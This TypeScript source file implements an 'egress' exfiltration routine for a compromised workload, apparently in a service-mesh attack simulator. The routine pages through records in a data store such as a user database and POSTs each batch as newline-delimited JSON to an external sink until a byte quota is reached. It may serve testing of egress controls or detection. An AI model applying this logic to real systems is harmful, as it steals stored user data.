import type { Doc } from './DocumentStore.ts';
import type { WorkloadRuntime } from './WorkloadRuntime.ts';

export interface EgressPlan {
  /** The compromised workload, with its own connections (and sidecar). */
  readonly runtime: WorkloadRuntime;
  /** Its data store (e.g. user-db). */
  readonly store: string;
  /** Collections read, in turn, over and over until enough is read. */
  readonly collections: readonly string[];
  /** Where the data goes (outside the mesh). */
  readonly sinkUrl: string;
  /** Record bytes to read and send. */
  readonly bytes: number;
  /** Records read per store query (one POST each). */
  readonly pageSize?: number;
}

/**
 * The `egress` exfiltration: the compromised workload pages through its own data store
 * (workload → store over TCP) and POSTs each page of records, newline-delimited JSON, to
 * the sink (workload → PassthroughCluster). Stops once `bytes` of record data were read;
 * resolves with the body bytes the sink acknowledged.
 */
export async function runEgress(plan: EgressPlan): Promise<{ bytes: number }> {
  const db = plan.runtime.store(plan.store);
  const pageSize = plan.pageSize ?? 50;
  let read = 0;
  let delivered = 0;
  while (read < plan.bytes) {
    const readBefore = read;
    for (const collection of plan.collections) {
      for (let skip = 0; read < plan.bytes; skip += pageSize) {
        const { docs } = await db.find<Doc>(collection, { skip, limit: pageSize });
        if (docs.length === 0) break;
        const lines: string[] = [];
        for (const d of docs) {
          if (read >= plan.bytes) break;
          const line = JSON.stringify(d);
          read += Buffer.byteLength(line);
          lines.push(line);
        }
        const r = await plan.runtime.http.callExternal(plan.sinkUrl, 'POST', { body: `${lines.join('\n')}\n`, contentType: 'application/x-ndjson' });
        if (r.status !== 200) throw new Error(`egress: the sink answered ${r.status}`);
        delivered += (r.json() as { received: number }).received;
        if (docs.length < pageSize) break;
      }
      if (read >= plan.bytes) break;
    }
    if (read === readBefore) throw new Error(`egress: ${plan.runtime.name}'s data store ${plan.store} holds no records to take`);
  }
  return { bytes: delivered };
}
